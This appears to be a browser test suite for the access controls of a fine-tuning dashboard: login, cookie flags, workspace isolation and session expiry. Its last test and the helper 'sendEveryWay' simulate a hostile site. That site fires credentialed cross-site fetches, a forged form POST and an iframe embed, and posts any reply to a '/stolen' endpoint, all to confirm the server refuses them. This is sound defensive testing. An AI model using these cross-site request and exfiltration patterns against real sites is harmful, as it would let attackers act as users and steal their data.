import assert from "node:assert/strict";
import { chmod, writeFile } from "node:fs/promises";
import { join } from "node:path";
import type { Page } from "playwright-core";
import { openDatabase } from "../../server/src/store/database";
import { Api, folder, removeFolders } from "../server/support";
import { withBrowser } from "../support/browser";
import { ForeignSite } from "../support/foreignSite";
import { TestServer } from "../support/server";

/** The browser itself reports replies with these statuses as errors. */
const REFUSED = [/status of 401/];

describe("page: access", function () {
  // The browser shares the machine with other tests.
  this.timeout(60_000);
  const browser = withBrowser();
  const keysFile = join(folder(), "keys");
  const dataFolder = join(folder(), "data");
  let server: TestServer;
  let jobId: string;
  before(async () => {
    await writeKeys("key-of-anna workspace=support name=anna", "key-of-ben workspace=sales name=ben");
    server = await TestServer.start({ dataFolder, speed: 1, args: ["--keys-file", keysFile] });
    const anna = new Api(server.url, "key-of-anna");
    jobId = (await anna.job({ suffix: "secret-plan", hyperparameters: { training_steps: 10_000 } })).id;
    await anna.until(jobId, "RUNNING");
  });
  after(async () => {
    await server.stopAndRemove();
    removeFolders();
  });

  it("asks for an API key, and then shows the page that the link leads to", async () => {
    const page = await browser.open(`${server.url}/files`, { expected: REFUSED });
    await page.getByLabel("API key").fill("key-of-nobody");
    await page.getByRole("button", { name: "Log in" }).click();
    assert.match(await page.getByRole("alert").innerText(), /Invalid API key/);

    await logIn(page, "key-of-anna");
    await page.getByRole("heading", { level: 1, name: "Files" }).waitFor();
    await page.getByText("support · anna").waitFor();
    assert.equal(await page.evaluate("document.cookie"), "", "scripts cannot read the cookie");
    const [cookie] = await page.context().cookies();
    assert.deepEqual([cookie?.httpOnly, cookie?.sameSite], [true, "Strict"]);

    await page.reload();
    await page.getByRole("button", { name: "Log out" }).click();
    await page.getByLabel("API key").waitFor();
    const status = await page.evaluate<number>(`fetch("/v1/fine_tuning/jobs").then(({ status }) => status)`);
    assert.equal(status, 401, "the session has ended on the server, too");
  });

  it("shows the jobs of the key's workspace only", async () => {
    const anna = await loggedIn("/", "key-of-anna");
    await anna.getByRole("link", { name: "secret-plan" }).waitFor();

    const ben = await loggedIn("/", "key-of-ben", [/status of 404/]);
    await ben.getByRole("heading", { level: 1, name: "Jobs" }).waitFor();
    for (const path of ["/", "/models", "/files", `/jobs/${jobId}`, `/compare?jobs=${jobId},${jobId}`]) {
      const replies: Promise<string>[] = [];
      ben.on(
        "response",
        (response) => response.url().includes("/v1/") && replies.push(response.text().catch(() => "")),
      );
      await ben.goto(server.url + path, { waitUntil: "networkidle" });
      assert.doesNotMatch(await ben.locator("body").innerText(), /secret-plan|train\.jsonl/, path);
      for (const reply of await Promise.all(replies)) assert.doesNotMatch(reply, /secret-plan|train\.jsonl/, path);
    }
  });

  it("returns to the login when the session has expired, and to the same page after it", async () => {
    const page = await loggedIn(`/jobs/${jobId}`, "key-of-anna");
    await page.getByRole("heading", { level: 1, name: /secret-plan/ }).waitFor();
    const database = openDatabase(join(dataFolder, "server.db"));
    database.prepare("UPDATE sessions SET expires_at = ?").run(Date.now());
    database.close();
    await page.getByLabel("API key").waitFor();
    assert.equal(new URL(page.url()).pathname, `/jobs/${jobId}`);
    await logIn(page, "key-of-anna");
    await page.getByRole("heading", { level: 1, name: /secret-plan/ }).waitFor();
  });

  it("ends the sessions of a key that is removed from the keys file", async () => {
    const anna = await loggedIn("/", "key-of-anna");
    const ben = await loggedIn("/", "key-of-ben");
    await ben.getByRole("heading", { level: 1, name: "Jobs" }).waitFor();
    await anna.getByRole("link", { name: "secret-plan" }).waitFor();
    await writeKeys("key-of-anna workspace=support name=anna");
    await ben.getByLabel("API key").waitFor();
    await anna.getByRole("link", { name: "secret-plan" }).waitFor();
  });

  it("refuses a web page of another port on this machine, which has the cookie, and of another site", async () => {
    for (const host of ["127.0.0.1", "localhost"]) {
      const site = await ForeignSite.start(host);
      try {
        const page = await loggedIn("/", "key-of-anna", [/.*/]);
        const cancel = `${server.url}/v1/fine_tuning/jobs/${jobId}/cancel`;
        await page.goto(site.url);
        const statuses: number[] = [];
        page.on("response", (response) => response.url() === cancel && statuses.push(response.status()));
        await page.evaluate(sendEveryWay, [cancel, server.url]);
        // The form's reply replaces the page, unless the browser refuses it.
        await page.goto(
          site.page(`<form method="post" enctype="text/plain" action="${cancel}"><button>Win</button></form>`),
        );
        await page.getByRole("button", { name: "Win" }).click();
        await page.waitForLoadState();

        await page.goto(site.page(`<iframe src="${server.url}/jobs/${jobId}"></iframe>`));
        const frame = page.frames().find((each) => each !== page.mainFrame());
        await frame?.waitForLoadState();
        assert.equal(await page.frameLocator("iframe").getByRole("button").count(), 0, "the page is not embedded");
        assert.match(frame?.url() ?? "", /^chrome-error:/);
        assert.ok(statuses.length > 0, `requests of ${host} reach the server`);
        assert.deepEqual(
          statuses.filter((status) => status !== 403 && status !== 401),
          [],
        );
        // The browser sends the cookie to the same site, so only the server's own check refuses these requests.
        if (host === "127.0.0.1") assert.ok(statuses.includes(403), String(statuses));
        assert.deepEqual(site.stolen, [], `a page of ${host} has read data`);
      } finally {
        await site.stop();
      }
      const { status } = await new Api(server.url, "key-of-anna").getJob(jobId);
      assert.equal(status, "RUNNING");
    }
  });

  async function writeKeys(...lines: string[]): Promise<void> {
    await writeFile(keysFile, `${lines.join("\n")}\n`);
    await chmod(keysFile, 0o600);
  }

  async function loggedIn(path: string, key: string, expected: readonly RegExp[] = []): Promise<Page> {
    const page = await browser.open(server.url + path, { expected: [...REFUSED, ...expected] });
    await logIn(page, key);
    // A page that is left earlier may have no cookie yet.
    await page.getByLabel("API key").waitFor({ state: "hidden" });
    return page;
  }
});

async function logIn(page: Page, key: string): Promise<void> {
  await page.getByLabel("API key").fill(key);
  await page.getByRole("button", { name: "Log in" }).click();
}

/** Runs in a foreign page. Tries to cancel the job, and to read what the user may read. */
async function sendEveryWay([cancel, server]: string[]): Promise<void> {
  const steal = async (reply: Promise<Response>) =>
    reply.then(async (response) => {
      const text = await response.text();
      if (text !== "") await fetch("/stolen", { method: "POST", body: text });
    });
  const all = { credentials: "include" } as const;
  const json = { "content-type": "application/json" };
  await Promise.allSettled([
    fetch(cancel as string, { ...all, method: "POST", mode: "no-cors" }),
    steal(fetch(cancel as string, { ...all, method: "POST" })),
    steal(fetch(cancel as string, { ...all, method: "POST", headers: json, body: "{}" })),
    steal(fetch(`${server}/v1/fine_tuning/jobs`, all)),
    steal(fetch(`${server}/v1/fine_tuning/dashboard/jobs`, { ...all, mode: "no-cors" })),
    steal(fetch(`${server}/session`, all)),
  ]);
}
